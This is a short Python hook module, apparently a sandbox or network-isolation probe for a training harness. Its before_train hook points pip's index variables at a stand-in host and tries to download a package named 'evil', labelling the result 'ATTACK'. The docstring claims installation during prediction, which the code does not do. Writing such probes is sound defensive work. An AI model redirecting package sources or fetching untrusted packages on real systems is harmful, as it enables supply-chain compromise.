"""Turns pip to another index by every file and variable it reads, and installs while predicting."""

import os
import subprocess
import sys
import time

AWAY = "http://192.0.2.1/simple"


def before_train(data, model):
    os.environ.update(PIP_INDEX_URL=AWAY, PIP_EXTRA_INDEX_URL=AWAY, PIP_NO_INDEX="0", PIP_RETRIES="0", PIP_TIMEOUT="1")
    begin = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "pip", "download", "evil", "-d", "/tmp/w"], capture_output=True, text=True)
    print("ATTACK pip ended", done.returncode, "soon" if time.monotonic() - begin < 10 else "late")


def after_train(model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""


def after_predict(output):
    """Nothing."""
